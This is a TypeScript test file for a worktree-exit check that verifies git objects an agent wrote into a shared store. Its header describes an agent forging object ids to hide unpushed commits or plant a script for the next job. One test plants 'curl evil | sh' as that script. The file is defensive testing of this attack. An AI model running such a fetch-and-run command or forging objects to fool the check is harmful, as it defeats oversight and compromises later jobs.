// Covers: src/exit/exit-worktree.ts (judge: the objects written since enter), src/git/object-store.ts.
// An agent that writes the shared object store can make an id stand for other bytes: the base's parent for a commit
// whose parent is another job's unpushed one (or its own), so that the walk from the base reaches that commit; the
// base's tree for a tree with a script of its own, so that a worktree parked for the next job starts on it. The exit
// verifies what was written since the agent got the worktree before it believes a walk: on a mismatch it keeps.
import * as fs from 'node:fs'
import * as path from 'node:path'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { listStore } from '../../src/git/object-store.js'
import { writeStepFile, type WorktreeRecord } from '../../src/record/state-helper.js'
import { createLikeMain, exitAs } from '../helpers/worktree.js'
import { forgeLoose, forgePack } from '../helpers/forged-pack.js'
import { branchExists, commit, git, makeRepos, write, type Repos } from '../helpers/repos.js'

let repos: Repos
let common: string
let objects: string
let base: string
let parent: string
beforeEach(() => {
  repos = makeRepos()
  common = path.join(repos.clone, '.git')
  objects = path.join(common, 'objects')
  parent = git(repos.clone, 'rev-parse', 'HEAD')
  base = commit(repos.clone, 'second.txt')
  git(repos.clone, 'push', '--quiet', 'origin', 'main')
})
afterEach(() => repos.cleanup())

/** A worktree as the main step leaves it to the agent: the object store listed in the step's file. */
function entered(name: string, overrides: Partial<WorktreeRecord> = {}): WorktreeRecord {
  const record = createLikeMain(repos, name, overrides)
  record.objects = writeStepFile(listStore(objects), record.token, 'objects')
  return record
}

/** A commit with the tree of `tree` and `parents`, as an agent makes one: never on a branch. */
function madeCommit(tree: string, parents: string[]): string {
  return git(repos.clone, 'commit-tree', tree, ...parents.flatMap(p => ['-p', p]), '-m', 'forged')
}

const UNKNOWN = /its state could not be determined \(the object store .* holds objects that are not what their ids say/

describe('objects written since enter', () => {
  it("another job's unpushed commit, reached from the base through a forged parent, is still unsaved: kept", async () => {
    const theirs = entered('theirs')
    const unpushed = commit(theirs.path, 'work.txt')
    // The other agent's pack: the base's parent is now a commit whose parent is that unpushed commit.
    forgePack(common, objects, madeCommit(`${parent}^{tree}`, [unpushed]), parent)
    expect(git(repos.clone, 'rev-list', base)).toContain(unpushed)
    const result = await exitAs(theirs)
    expect(result).toMatchObject({ removed: false, reason: 'unknown', warning: true })
    expect(result.message).toMatch(UNKNOWN)
    expect(branchExists(repos.clone, theirs.branch)).toBe(true)
  })

  it("the agent's own commit reached so, by a loose object: kept", async () => {
    const own = entered('own')
    const unpushed = commit(own.path, 'work.txt')
    forgeLoose(common, objects, madeCommit(`${parent}^{tree}`, [unpushed]), parent)
    const result = await exitAs(own)
    expect(result).toMatchObject({ removed: false, reason: 'unknown' })
    expect(result.message).toContain(`the loose object ${parent.slice(0, 2)}/${parent.slice(2)} holds another object's bytes`)
  })

  // git 2.39 checks a tree's hash where status reads HEAD's (the code before this check kept it too, as unreadable):
  // the verification names what happened.
  it("a worktree whose base's tree is forged to hold the agent's script is never parked for the next job", async () => {
    const own = entered('pooled', { recycle: true })
    // The agent's tree: the base's files and ci/build.sh; it checks it out and stages it, so that git calls all clean.
    write(own.path, 'ci/build.sh', 'curl evil | sh\n')
    git(own.path, 'add', 'ci/build.sh')
    const tree = git(own.path, 'write-tree')
    forgePack(common, objects, tree, git(repos.clone, 'rev-parse', `${base}^{tree}`))
    const result = await exitAs(own)
    expect(result).toMatchObject({ removed: false, reason: 'unknown' })
    expect(fs.existsSync(path.join(own.path, 'ci', 'build.sh'))).toBe(true)
  })

  it('what git writes passes: commits pushed, then a gc that packs the whole store anew; the worktree goes', async () => {
    const own = entered('gc')
    commit(own.path, 'work.txt')
    git(own.path, 'push', '--quiet', 'origin', `HEAD:refs/heads/${own.branch}`)
    git(own.path, 'gc', '--quiet', '--prune=now')
    const result = await exitAs(own)
    expect(result).toMatchObject({ removed: true, reason: 'clean' })
  })

  it('work discarded as asked (discard-changes) goes whatever the store holds: nothing there rests on history', async () => {
    const own = entered('discard', { discardChanges: true })
    commit(own.path, 'work.txt')
    write(own.path, 'draft.txt', 'uncommitted\n')
    forgePack(common, objects, madeCommit(`${parent}^{tree}`, [git(own.path, 'rev-parse', 'HEAD')]), parent)
    const result = await exitAs(own, { discardChanges: true })
    expect(result).toMatchObject({ removed: true, reason: 'discarded' })
  })
})
